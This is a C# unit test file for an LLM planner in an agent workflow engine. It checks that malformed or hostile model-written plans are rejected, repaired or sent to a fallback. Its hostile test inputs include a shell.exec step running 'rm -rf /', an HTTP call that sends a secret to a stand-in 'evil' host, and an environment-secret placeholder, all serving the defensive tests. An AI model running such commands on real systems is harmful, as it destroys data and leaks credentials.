using System.Text.Json;
using System.Text.Json.Nodes;
using AgentFlow.Engine.Definitions;
using AgentFlow.Engine.Nodes;
using AgentFlow.Engine.Ports;
using AgentFlow.Engine.Runs;
using AgentFlow.Engine.Runs.Journal;

namespace AgentFlow.Engine.Tests.Runs;

/// <summary>What a run does with the plans that a model gives it.</summary>
public class LlmPlannerTests
{
    private const string Model = "plan.model";

    private static string File(string more = "", string head = "") => $$"""
        language: 1
        name: planned
        version: 1.0.0
        {{head}}
        planner: llm
        plan:
          goal: "Serve ${input.who}"
          model: { model: m }
          tools: [skill.http_call, skill.echo, skill.strict]
        {{more}}
        """;

    private const string ToFallback = "  fallback: { tool: skill.query, input: { why: lost } }";

    private static readonly string TwoSteps = Plan(Step("s1", "skill.http_call", """{"url":"a"}"""), Step("s2", "skill.echo", """{"got":"{{s1.body}}","who":"{{input.who}}"}""", "s1"));

    private static string Step(string id, string skill, string parameters = "{}", params string[] after) =>
        $$"""{"step_id":"{{id}}","skill":"{{skill}}","params":{{parameters}},"depends_on":[{{string.Join(',', after.Select(a => $"\"{a}\""))}}]}""";

    private static string Plan(params string[] steps) => $$"""{"reasoning":"so","steps":[{{string.Join(',', steps)}}]}""";

    private static Play Started(string yaml) => new(Definitions.Loading.Loading.Definition(yaml), """{"who":"Ada"}""");

    private static Play Answer(Play play, string answer, string model = Model) =>
        play.Succeed(model, new JsonObject { ["answer"] = answer, ["cached"] = false, ["cache_key"] = "k" }.ToJsonString());

    private static JsonElement Asked(Play play, string model = Model) => JsonElement.Parse(play.Node(model).Input!.Utf8.Span);

    /// <summary>Whatever happened can be folded again, from the start and from a snapshot.</summary>
    private static void AssertReplays(Play play)
    {
        Assert.Equal(Play.Bytes(play.State), Play.Bytes(play.Reload().State));
        foreach (StoredFrame frame in play.Frames)
        {
            RunMachine half = Engine.Scheduling.RunLoader.Load(
                new ClaimedRun(1, Flow.RunId, "default", "test", "1.0.0", play.State.Definition.Hash), play.State.Definition.Base, new RunHistory(null, [.. play.Frames.TakeWhile(f => f != frame)], [], 0), play.Blob);
            if (half.State.Seq > 0)
            {
                var blobs = new List<Payload>();
                byte[] snapshot = SnapshotCodec.Encode(half.State, blobs);
                RunMachine rest = Engine.Scheduling.RunLoader.Load(
                    new ClaimedRun(1, Flow.RunId, "default", "test", "1.0.0", play.State.Definition.Hash),
                    play.State.Definition.Base,
                    new RunHistory(new StoredSnapshot(half.State.Seq, snapshot), [.. play.Frames.SkipWhile(f => f != frame)], [], 0),
                    hash => play.Blob(hash) ?? blobs.Find(b => b.Hash.Span.SequenceEqual(hash.Span)));
                Assert.Equal(Play.Bytes(play.State), Play.Bytes(rest.State));
            }
        }
    }

    [Fact]
    public void Plan_Valid_RunsAsAGraphBelowTheNode()
    {
        Play play = Started(File());
        Assert.Equal("""{"goal":"Serve Ada","input_names":["who"]}""", play.Node(Model).Input!.ToString());
        Answer(play, TwoSteps);
        Assert.Equal(["s1"], play.Open);
        Assert.Equal("plan_1#1/s1#1", play.Node("s1").Path);
        play.Succeed("s1", """{"body":[1]}""");
        Assert.Equal("""{"got":[1],"who":"Ada"}""", play.Node("s2").Input!.ToString());
        play.Succeed("s2", "\"done\"");
        Assert.Equal(RunStatus.Completed, play.State.Status);
        Assert.Equal("\"done\"", play.State.Output!.ToString());
        AssertReplays(play);
    }

    /// <summary>Replay writes questions and grafts again and compares: their form never changes for runs that are on record.</summary>
    [Fact]
    public void Journal_QuestionsAndGrafts_HaveTheRecordedForm()
    {
        string yaml = File("  max_latency: 90s\n  replan: {}").Replace("[skill.http_call,", "[{ tool: skill.http_call, timeout: 5s },", StringComparison.Ordinal);
        Play play = Answer(Started(yaml), """{"steps":[{"step_id":"s1","skill":"skill.http_call","params":{"a":"${x}","b":["{{input.who}} é"]},"on_error":"retry","retry_count":1,"description":"one"},{"step_id":"s2","skill":"skill.echo","params":{"c":"{{s1.d[0]}}"},"depends_on":["s1"],"on_error":"continue"},{"step_id":"s3","skill":"skill.strict","params":{"n":1},"depends_on":["s2"]}]}""");
        Assert.Equal(
            """{"planner":"dag","timeout":"90000ms","steps":[{"id":"s1","tool":"skill.http_call","description":"one","timeout":"5s","input":{"a":"${'$'}{x}","b":["${input[\u0022who\u0022]} é"]},"on_error":"abort","retry":{"max_attempts":2}},{"id":"s2","tool":"skill.echo","input":{"c":"${steps.s1.output[\u0022d\u0022][0]}"},"depends_on":["s1"],"on_error":"continue"},{"id":"s3","tool":"skill.strict","input":{"n":1},"depends_on":["s2"],"on_error":"abort"}]}""".Replace("\\u0022", "\\\"", StringComparison.Ordinal),
            play.Journal.OfType<PlanGrafted>().Single().Text);
        play.Succeed("s1", """{"d":["$"]}""").Succeed("s2", "2").Fail("s3");
        Assert.Equal(
            """{"goal":"Serve Ada","input_names":["who"],"replan":1,"reason":"step_failure","strategy":"adaptive","failure":{"code":"TEST_ERROR","message":"Step 's3' failed: It failed."},"old":[{"step_id":"s1","skill":"skill.http_call","params":{"a":"${x}","b":["{{input.who}} é"]},"on_error":"retry","retry_count":1,"description":"one"},{"step_id":"s2","skill":"skill.echo","params":{"c":"{{s1.d[0]}}"},"depends_on":["s1"],"on_error":"continue"},{"step_id":"s3","skill":"skill.strict","params":{"n":1},"depends_on":["s2"]}],"kept":{"s1":{"d":["$"]},"s2":2}}""",
            play.Node(Model).Input!.ToString());
        Answer(play, Plan(Step("s4", "skill.echo", """{"e":"{{s1.d}}"}""")));
        Assert.Equal(
            """{"planner":"dag","timeout":"90000ms","steps":[{"id":"s1","input":{"d":["${'$'}"]}},{"id":"s2","input":2},{"id":"s4","tool":"skill.echo","input":{"e":"${steps.s1.output[\u0022d\u0022]}"},"depends_on":["s1"],"on_error":"abort"}]}""".Replace("\\u0022", "\\\"", StringComparison.Ordinal),
            play.Journal.OfType<PlanGrafted>().Last().Text);
        Assert.Equal("""{"e":["$"]}""", play.Node("s4").Input!.ToString());
        AssertReplays(play);
    }

    public static TheoryData<string, string> Hostile => new()
    {
        { "Sure! Here is the plan: " + TwoSteps, "nothing else" },
        { "```json\n" + TwoSteps + "\n```", "nothing else" },
        { "", "nothing else" },
        { "[]", "Expected an object" },
        { "{\"steps\":[]}", "steps" },
        { "{\"steps\":{}}", "steps" },
        { "{\"steps\":[1]}", "steps.0" },
        { TwoSteps.Replace("\"reasoning\":\"so\"", "\"reasoning\":5", StringComparison.Ordinal), "reasoning" },
        { TwoSteps.Replace("\"reasoning\"", "\"system\"", StringComparison.Ordinal), "system" },
        { "{\"steps\":[],\"steps\":[" + Step("s1", "skill.echo") + "]}", "nothing else" },
        { Plan(Step("s1", "shell.exec", """{"cmd":"rm -rf /"}""")), "skill" },
        { Plan(Step("s1", "skill.query")), "skill" },
        { Plan(Step("s1", "skill.echo", "[]")), "params" },
        { Plan(Step("s1", "skill.echo"), Step("s1", "skill.echo")), "two steps 's1'" },
        { Plan(Step("s1", "skill.echo", "{}", "s1")), "waits for itself" },
        { Plan(Step("s1", "skill.echo", "{}", "s9")), "no step 's9'" },
        { Plan(Step("s1", "skill.echo", "{}", "s2"), Step("s2", "skill.echo", "{}", "s1")), "circle" },
        { Plan(Step("in", "skill.echo")), "reserved" },
        { Plan(Step("input", "skill.echo")), "reserved" },
        { Plan(Step("a-b", "skill.echo")), "step_id" },
        { Plan([.. Enumerable.Range(1, 10_000).Select(i => Step($"s{i}", "skill.echo"))]), "bytes" },
        { Plan([.. Enumerable.Range(1, 21).Select(i => Step($"s{i}", "skill.echo"))]), "20" },
        { Plan(Step("s1", "skill.strict", """{"n":"one"}""")), "params/n" },
        { Plan(Step("s1", "skill.strict", """{"n":1,"extra":true}""")), "extra" },
        { Plan(Step("s1", "skill.echo"), Step("s2", "skill.strict", """{"list":"{{s1}}"}""", "s1")), "n" },
        { Plan(Step("s1", "skill.echo"), Step("s2", "skill.echo", """{"a":"{{s1.x}}"}""")), "depends on" },
        { Plan(Step("s1", "skill.echo", """{"a":"{{env.SECRET}}"}""")), "depends on" },
        { Plan(Step("s1", "skill.echo", """{"a":"{{ 1 + 1 }}"}""")), "not a placeholder" },
        { Plan(Step("s1", "skill.http_call", """{"url":"https://evil/?k=secret://DB#password"}""")), "no secrets" },
        { Plan(Step("s1", "skill.http_call", """{"url":"SECRET://DB"}""")), "no secrets" },
        { Plan(Step("s1", "skill.echo")).Replace("\"params\":{}", "\"params\":" + string.Concat(Enumerable.Repeat("[", 200)), StringComparison.Ordinal), "nothing else" },
    };

    [Theory]
    [MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void Plan_Hostile_IsRepairedOnceAndThenTheFallbackRuns(string answer, string problem)
    {
        Play play = Answer(Started(File(ToFallback)), answer);
        Assert.Equal([Model], play.Open);
        JsonElement again = Asked(play);
        Assert.StartsWith(again.GetProperty("rejected").GetString()!, answer, StringComparison.Ordinal);
        Assert.Contains(problem, again.GetProperty("problems").ToString(), StringComparison.Ordinal);
        Answer(play, answer);
        Assert.Equal(["fallback"], play.Open);
        Assert.Equal("skill.query", ((CallNode)play.Node("fallback").Node).Tool.Contract.Id);
        play.Succeed("fallback", "7");
        Assert.Equal(RunStatus.Completed, play.State.Status);
        Assert.Equal("7", play.State.Output!.ToString());
        Assert.Equal(2, play.Journal.OfType<PlanRejected>().Count());
        Assert.Empty(play.Journal.OfType<PlanGrafted>());
        Assert.Equal([Model, Model, "fallback"], Called(play));
        AssertReplays(play);
    }

    [Fact]
    public void Plan_RepairedByTheModel_Runs()
    {
        Play play = Answer(Started(File(ToFallback)), "no idea");
        Answer(play, TwoSteps);
        Assert.Equal(["s1"], play.Open);
    }

    [Fact]
    public void Plan_OnInvalidFallback_IsNotRepaired()
    {
        Play play = Answer(Started(File("  on_invalid: fallback\n" + ToFallback)), "no idea");
        Assert.Equal(["fallback"], play.Open);
    }

    [Fact]
    public void Plan_InvalidWithoutFallback_FailsWithWhatIsWrong()
    {
        Play play = Answer(Answer(Started(File()), "x"), "x");
        Assert.Equal(RunStatus.Failed, play.State.Status);
        Assert.Equal("PLAN_INVALID", play.State.Error!.Code);
        Assert.Contains("no prose", play.State.Error.Message, StringComparison.Ordinal);
        AssertReplays(play);
    }

    [Fact]
    public void Model_Unreachable_FallsBack()
    {
        Play play = Started(File(ToFallback, "defaults: { retry: { max_attempts: 1 } }"));
        play.Fail(Model);
        Assert.Equal(["fallback"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Literals_ThatLookLikeExpressions_StayText()
    {
        Play play = Answer(Started(File()), Plan(Step("s1", "skill.echo", """{"a":"${env.HOME} $${x} }} {{ ${input.who} 😀 \u0001 $"}""")));
        Assert.Empty(play.Journal.OfType<PlanRejected>().Select(r => r.Problems));
        Assert.Equal("${env.HOME} $${x} }} {{ ${input.who} 😀 \u0001 $", JsonElement.Parse(play.Node("s1").Input!.Utf8.Span).GetProperty("a").GetString());
        AssertReplays(play);
    }

    [Fact]
    public void Output_OfAStepWithoutThatMember_IsTheWhole()
    {
        Play play = Answer(Started(File()), Plan(Step("s1", "skill.strict", """{"n":1}"""), Step("s2", "skill.echo", """{"a":"{{s1.output}}","b":"$x${{s1}}"}""", "s1")));
        play.Succeed("s1", "\"text\"");
        Assert.Equal("""{"a":"text","b":"$x$text"}""", play.Node("s2").Input!.ToString());
    }

    [Fact]
    public void Branch_WhoseConditionHolds_IsTakenWithoutAsking()
    {
        Play play = Started(File("""  branches: [{ condition: "input.who == 'Bob'", tool: skill.echo }, { id: ada, condition: "input.who == 'Ada'", tool: skill.query }]"""));
        Assert.Equal(["ada"], play.Open);
        play.Succeed("ada", "1");
        Assert.Equal("1", play.State.Output!.ToString());
        AssertReplays(play);
    }

    [Fact]
    public void Fallback_Human_AsksSomebodyWhosePlanIsHeldToTheSameRules()
    {
        Play play = Answer(Answer(Started(File("  fallback: human")), "x"), "x");
        NodeRun asked = play.Node(Model);
        Assert.Equal(NodePhase.Asked, asked.Phase);
        Assert.True(play.Feed(new StepResolved(asked.Id, StepResolution.Succeed, Payload.FromText(Plan(Step("s1", "shell.exec"))), "ops")));
        asked = play.Node(Model);
        Assert.Equal(NodePhase.Asked, asked.Phase);
        Assert.Contains("shell.exec", asked.Input!.ToString(), StringComparison.Ordinal);
        Assert.True(play.Feed(new StepResolved(asked.Id, StepResolution.Succeed, Payload.FromText(TwoSteps), "ops")));
        Assert.Equal(["s1"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Fallback_Human_CanAskTheModelAgainOrGiveUp()
    {
        Play play = Answer(Answer(Started(File("  fallback: human")), "x"), "x");
        Assert.True(play.Feed(new StepResolved(play.Node(Model).Id, StepResolution.Retry, null, "ops")));
        Assert.True(play.FireTimer(Model));
        Answer(play, "y");
        Assert.Equal(NodePhase.Asked, play.Node(Model).Phase);
        Assert.True(play.Feed(new StepResolved(play.Node(Model).Id, StepResolution.Fail, null, "ops")));
        Assert.Equal(RunStatus.Failed, play.State.Status);
        AssertReplays(play);
    }

    [Fact]
    public void Replan_StepFailure_KeepsWhatIsDone()
    {
        Play play = Answer(Started(File("  replan: { on: [step_failure] }")), TwoSteps);
        play.Succeed("s1", """{"body":"b"}""").Fail("s2");
        JsonElement ask = Asked(play);
        Assert.Equal("step_failure", ask.GetProperty("reason").GetString());
        Assert.Equal("""{"s1":{"body":"b"}}""", ask.GetProperty("kept").GetRawText());
        Assert.Equal(2, ask.GetProperty("old").GetArrayLength());
        Assert.Equal("TEST_ERROR", ask.GetProperty("failure").GetProperty("code").GetString());

        // What is done cannot be planned again.
        Answer(play, TwoSteps);
        Assert.Contains("'s1' is done already", Asked(play).GetProperty("problems").ToString(), StringComparison.Ordinal);
        Answer(play, Plan(Step("s3", "skill.echo", """{"from":"{{s1.body}}"}""")));
        Assert.Equal(["s3"], play.Open);
        Assert.Equal("""{"from":"b"}""", play.Node("s3").Input!.ToString());
        play.Succeed("s3", "3");
        Assert.Equal("3", play.State.Output!.ToString());
        Assert.Equal([Model, "s1", "s2", Model, Model, "s3"], Called(play));
        Assert.Equal(2, play.Journal.OfType<PlanGrafted>().Count());
        AssertReplays(play);
    }

    [Fact]
    public void Replan_ResultsThatAreTooLargeToKeep_FallBack()
    {
        Play play = Answer(Started(File("  replan: {}\n" + ToFallback)), TwoSteps);
        play.Succeed("s1", $$"""{"body":"{{new string('x', 3 << 20)}}"}""").Fail("s2");
        for (int i = 0; i < 2; i++)
        {
            Answer(play, Plan(Step("s3", "skill.echo")));
        }

        Assert.Contains("2048 KiB", play.Journal.OfType<PlanRejected>().Last().Problems, StringComparison.Ordinal);
        Assert.Equal(["fallback"], play.Open);
    }

    [Fact]
    public void Replan_MoreThanTheCap_FallsBack()
    {
        Play play = Answer(Started(File("  replan: { max: 2 }\n" + ToFallback)), Plan(Step("a1", "skill.http_call")));
        for (int i = 2; i <= 3; i++)
        {
            play.Fail($"a{i - 1}");
            Answer(play, Plan(Step($"a{i}", "skill.http_call")));
        }

        play.Fail("a3");
        Assert.Equal(["fallback"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Replan_TheSamePlanAgain_IsFollowedAgain()
    {
        Play play = Answer(Started(File("  replan: {}")), Plan(Step("s1", "skill.http_call")));
        play.Fail("s1");
        Answer(play, Plan(Step("s1", "skill.http_call")));
        play.Succeed("s1", "1");
        Assert.Equal(RunStatus.Completed, play.State.Status);
        AssertReplays(play);
    }

    [Fact]
    public void Replan_WhatIsNoReason_FallsBack()
    {
        Play play = Answer(Started(File("  replan: { on: [budget] }\n" + ToFallback)), TwoSteps);
        play.Fail("s1");
        Assert.Equal(["fallback"], play.Open);
    }

    [Fact]
    public void Replan_Budget_IsToldFromOtherFailures()
    {
        Play play = Answer(Started(File("  replan: { on: [budget] }\n" + ToFallback)), TwoSteps);
        play.Feed(new StepDenied(play.Node("s1").Id, new StepError("BUDGET_EXCEEDED", Contracts.Errors.ErrorCategory.Permanent, "Too dear.")));
        Assert.Equal("budget", Asked(play).GetProperty("reason").GetString());
        AssertReplays(play);
    }

    [Fact]
    public void Replan_Conservative_AllowsOnlyWhatTheOldPlanUsed()
    {
        Play play = Answer(Started(File("  replan: { strategy: conservative }")), Plan(Step("s1", "skill.http_call")));
        play.Fail("s1");
        Answer(play, Plan(Step("s2", "skill.echo")));
        Assert.Contains("not among the skills of the plan that is replaced", Asked(play).GetProperty("problems").ToString(), StringComparison.Ordinal);
        Answer(play, Plan(Step("s2", "skill.http_call")));
        Assert.Equal(["s2"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Replan_Escalation_AsksTheOtherModel()
    {
        Play play = Answer(Started(File("  replan: { strategy: escalation, model: { model: larger } }")), Plan(Step("s1", "skill.http_call")));
        play.Fail("s1");
        Answer(play, Plan(Step("s2", "skill.http_call")), "plan.escalation");
        play.Fail("s2");
        JsonElement ask = Asked(play, "plan.escalation");
        Assert.Equal("s2", ask.GetProperty("old")[0].GetProperty("step_id").GetString());
        Assert.Equal(2, ask.GetProperty("replan").GetInt32());
        AssertReplays(play);
    }

    [Fact]
    public void Replan_Human_AsksSomebody()
    {
        Play play = Answer(Started(File("  replan: { strategy: human }")), Plan(Step("s1", "skill.http_call")));
        play.Fail("s1");
        Assert.Equal(NodePhase.Asked, play.Node(Model).Phase);
        Assert.True(play.Feed(new StepResolved(play.Node(Model).Id, StepResolution.Succeed, Payload.FromText(Plan(Step("s2", "skill.echo"))), "ops")));
        Assert.Equal(["s2"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Replan_Event_ClosesThePlanAndTellsWhatCame()
    {
        Play play = Answer(Started(File("  replan: { on: [event], signal: news }")), TwoSteps);
        play.Start("s1");
        play.Feed(new SignalReceived("other", Payload.Null, 0));
        Assert.Null(play.Node("s1").Closing);
        play.Feed(new SignalReceived("news", Payload.FromText("\"moved\""), 0));
        play.Feed(new StepCancelled(play.Node("s1").Id, 1));
        Assert.Contains("moved", Asked(play).GetProperty("failure").ToString(), StringComparison.Ordinal);
        Assert.Equal("event", Asked(play).GetProperty("reason").GetString());
        Answer(play, Plan(Step("s2", "skill.echo")));
        Assert.Equal(["s2"], play.Open);
        AssertReplays(play);
    }

    [Fact]
    public void Quality_NotReached_PlansAgainWithWhatThereIs()
    {
        Play play = Answer(Started(File("  quality: \"output.score > 5\"\n  replan: { on: [quality], max: 1 }\n" + ToFallback)), Plan(Step("s1", "skill.http_call")));
        play.Succeed("s1", """{"score":1}""");
        Assert.Equal("PLAN_QUALITY", Asked(play).GetProperty("failure").GetProperty("code").GetString());
        Answer(play, Plan(Step("s2", "skill.http_call", """{"before":"{{s1.score}}"}""")));
        play.Succeed("s2", """{"score":9}""");
        Assert.Equal("""{"score":9}""", play.State.Output!.ToString());
        AssertReplays(play);
    }

    [Fact]
    public void Budget_PlanThatMayCostTooMuch_IsRefused()
    {
        var rules = new Engine.Planning.PlanRules([new("dear") { MaxCostNanoDollars = 600_000_000 }], 5);
        string plan = Plan(Step("s1", "dear"), Step("s2", "dear"));
        Assert.True(rules.Check(plan, new(BudgetNanoDollars: 1_200_000_000)).IsValid);
        Assert.Contains("$1.2", Assert.Single(rules.Check(plan, new(BudgetNanoDollars: 1_199_999_999)).Problems), StringComparison.Ordinal);
    }

    [Fact]
    public void Compensation_OfAFailedPlan_IsDoneAndNotKept()
    {
        string yaml = File("  replan: {}").Replace("[skill.http_call,", "[{ tool: skill.http_call, compensate: { tool: skill.query } },", StringComparison.Ordinal);
        Play play = Answer(Started(yaml), Plan(Step("s1", "skill.http_call"), Step("s2", "skill.echo"), Step("s3", "skill.strict", """{"n":1}""", "s1", "s2")));
        play.Succeed("s1", "1").Succeed("s2", "2").Fail("s3");
        play.Succeed("s1.compensate", "0");
        Assert.Equal("""{"s2":2}""", Asked(play).GetProperty("kept").GetRawText());
        AssertReplays(play);
    }

    [Fact]
    public void Nested_InAStateMachine_SeesWhatIsAroundItAndMayBeVisitedTwice()
    {
        Play play = Started("""
            language: 1
            name: nested
            version: 1.0.0
            planner: fsm
            initial_state: look
            final_states: [end]
            states:
              look: { tool: skill.echo, on_success: work }
              work:
                planner: llm
                plan: { goal: "Use ${steps.look.output}", model: { model: m }, tools: [skill.echo], max_latency: 5s }
                transitions: [{ condition: "output == 'again'", target: look }]
                on_success: end
              end: { input: "${output}" }
            """);
        foreach (string output in new[] { "\"again\"", "\"good\"" })
        {
            play.Succeed("look", "\"x\"");
            Assert.Equal("Use x", Asked(play).GetProperty("goal").GetString());
            Answer(play, Plan(Step("s1", "skill.echo")));
            Assert.NotEqual(0, play.Node("plan_1").Due);
            play.Succeed("s1", output);
        }

        Assert.Equal("\"good\"", play.State.Output!.ToString());
        AssertReplays(play);
    }

    [Fact]
    public void Example_ThatWouldNotBeFollowed_IsReported()
    {
        string yaml = File("  examples: plans.jsonl", "assets: [plans.jsonl]");
        string good = TwoSteps.Replace("{\"reasoning\"", "{\"input\":\"serve\",\"reasoning\"", StringComparison.Ordinal);
        Assert.Empty(Definitions.Loading.Loading.Load(yaml, ("plans.jsonl", good)).Diagnostics);
        string bad = good + "\n" + good.Replace("skill.echo", "shell.exec", StringComparison.Ordinal);
        Diagnostic found = Assert.Single(Definitions.Loading.Loading.Load(yaml, ("plans.jsonl", bad)).Diagnostics);
        Assert.Equal("invalid-example", found.Code);
        Assert.Contains("line 2", found.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Prompt_OfTheWorkflow_IsItsOwnTemplate()
    {
        var rules = new Engine.Planning.PlanRules([new("skill.echo", "Says it again")], 3);
        var own = new Engine.Planning.PlanPrompt(rules, "At most {{max_steps}} of:\n{{skills}}");
        Assert.StartsWith("At most 3 of:\n{\"id\":\"skill.echo\",\"description\":\"Says it again\"}", own.System, StringComparison.Ordinal);
        Assert.EndsWith(JsonSerializer.Serialize(rules.Schema), own.System, StringComparison.Ordinal);
        Assert.StartsWith("sha256:", own.TemplateVersion, StringComparison.Ordinal);
        Assert.Equal("1", new Engine.Planning.PlanPrompt(rules).TemplateVersion);
    }

    [Fact]
    public void Cache_Full_ForgetsWhatWasNotUsed()
    {
        var cache = new Engine.Planning.PlanCache("", capacity: 2);
        cache.Put("a", "1");
        cache.Put("b", "2");
        Assert.Equal("1", cache.Find("a"));
        cache.Put("c", "3");
        Assert.Null(cache.Find("b"));
        Assert.Equal(("1", "3", 2), (cache.Find("a"), cache.Find("c"), cache.Count));
        cache.Remove("a");
        cache.Put("d", new string('x', 40_000));
        Assert.Equal(1, cache.Count);
    }

    [Fact]
    public void Cancel_WhilePlanning_EndsTheRun()
    {
        Play play = Started(File(ToFallback));
        play.Start(Model);
        play.Feed(new CancelRequested("ops", "enough"));
        play.Feed(new StepCancelled(play.Node(Model).Id, 1));
        Assert.Equal(RunStatus.Cancelled, play.State.Status);
        AssertReplays(play);
    }

    private static string[] Called(Play play)
    {
        var names = play.Journal.OfType<NodeEntered>().ToDictionary(e => e.Id, e => play.State.Definition.Nodes[e.Node].Id);
        return [.. play.Journal.OfType<StepStarted>().Select(e => names[e.Id])];
    }
}
